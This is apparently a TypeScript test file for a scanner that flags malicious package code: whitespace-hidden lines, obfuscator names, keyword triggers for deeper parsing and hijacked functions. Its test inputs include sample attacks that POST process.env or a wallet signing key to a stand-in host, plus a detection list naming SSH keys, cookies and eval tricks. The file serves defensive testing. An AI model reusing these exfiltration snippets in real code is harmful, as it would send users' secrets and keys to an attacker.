import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { findHidden, isWorthParsing } from '../../../../server/src/core/know/capabilities/scan/raw-text.ts';
import { capabilities, scan, signs } from './package-code.ts';

/** A chain of calls in a function that gets texts: each call doubles the work if its object is read twice. */
function chain(length: number): string {
  const calls = Array.from({ length }, (_, at) => `.option('--a${at}', 'b')`).join('');
  return `function build(name, text) { return program.command(name).describe(text)${calls}; }
build('open', 'opens').action(() => 1);\n`;
}

/** Lists in each other, in such a function. */
function lists(depth: number): string {
  const inner = `${'[...'.repeat(depth)}text${']'.repeat(depth)}`;
  return `function build(text) { return ${inner}; }\nbuild('abc').map((one) => one);\n`;
}

describe('what the code costs to read', () => {
  const attack = `fetch('https://c.example.test', { method: 'POST', body: JSON.stringify(process.env) });`;
  for (const [name, before] of [
    ['long chains of calls', chain(50)],
    ['lists in lists', lists(50)],
  ] as const)
    test(`an attack behind ${name} is found`, () => {
      const alone = scan(attack);
      assert.ok(alone.isSuspicious);
      assert.deepEqual(signs(scan(before + attack)), signs(alone));
    });
});

describe('what a text hides', () => {
  for (const before of [0, 1, 139, 140, 141, 300])
    test(`code behind 140 blanks after ${before} characters is found, behind 139 it is not`, () => {
      const start = `${'a'.repeat(before)};`;
      const end = 'run();';
      const hidden = findHidden(`${start}${' '.repeat(140)}${end}`);
      assert.deepEqual(
        hidden.map(({ sign }) => sign),
        ['hidden-line'],
      );
      assert.deepEqual(findHidden(`${start}${' '.repeat(139)}${end}`), []);
    });

  test('tabs and blanks that do not break lines hide code too', () => {
    const [found] = findHidden(`a;${'\t \u00a0'.repeat(50)}run();`);
    assert.equal(found?.sign, 'hidden-line');
  });

  test('12 names of an obfuscator are some, 11 are none', () => {
    const names = (count: number) => Array.from({ length: count }, (_, at) => `_0x${1000 + at}`).join(';');
    assert.equal(findHidden(names(12))[0]?.detail, 'names of an obfuscator');
    assert.deepEqual(findHidden(names(11)), []);
    assert.deepEqual(findHidden(`${names(6)};${'_$_12ab;'.repeat(5)}`), []);
    assert.equal(findHidden(`${names(6)};${'_$_12ab;'.repeat(6)}`)[0]?.sign, 'obfuscator');
  });
});

describe('the words for which a file is parsed', () => {
  const WORTH = [
    `a(child_process)`,
    `x = 'http'`,
    `import 'https';`,
    `fetch (url)`,
    `const f = fetch`,
    `[eval]`,
    `process.env.TOKEN`,
    `import x from 'node:fs'`,
    `require("os")`,
    `x.homedir`,
    `globalThis ['a']`,
    `window?.["a"]`,
    `require('discord.js')`,
    `for (let i = 0; i < Infinity; i++) {}`,
    `new Function('a')`,
    `a.constructor.constructor('x')`,
    `a['constructor']`,
    `document.createElement('script')`,
    `a["\\x65val"]`,
    `a['\\u0065val']`,
    'a[`\\u{65}val`]',
    `require(name)`,
    `require('a' + 'b')`,
    `const r = require;`,
    `module.require`,
    `require['a']`,
    `Array.prototype.map = run`,
    `JSON.parse = run`,
    `import(name)`,
    `const m = process;`,
    `a[['e', 'v'].join('')]`,
    `a['ev' + 'al']`,
    `new Image`,
    `mail.bcc`,
    `0xe0100`,
    `917760`,
    `'id_rsa'`,
    `'~/.ssh'`,
    `"folderOpen"`,
    `'.claude'`,
    `document.cookie`,
    `'input[type=password]'`,
    `fromCharCode`,
    `while (true) console.log(1)`,
  ];
  for (const text of WORTH) test(text, () => assert.ok(isWorthParsing(text)));

  for (const text of [
    `process.env.NODE_ENV`,
    `prefetch(url)`,
    `a.evaluate(1)`,
    `require('./a')`,
    `import('./a')`,
    `'\\n\\u2028'`,
    `while (true) {}`,
    `module.exports = 1`,
    `Function.prototype.call`,
  ])
    test(`not ${text}`, () => assert.ok(!isWorthParsing(text)));
});

describe('functions that replace others', () => {
  test('a name that gets the original later is one too', () => {
    const record = (keep: string) =>
      scan(`const other = require('other-wallet');
let inner;
${keep}
other.sign = function (key) { fetch('https://c.example.test', { method: 'POST', body: key }); return inner(key); };`);
    assert.ok(signs(record('inner = other.sign;')).includes('sends-captured'));
    assert.ok(!signs(record('inner = other.verify;')).includes('sends-captured'));
    assert.ok(capabilities(record('inner = other.verify;')).includes('network: requests'));
  });
});
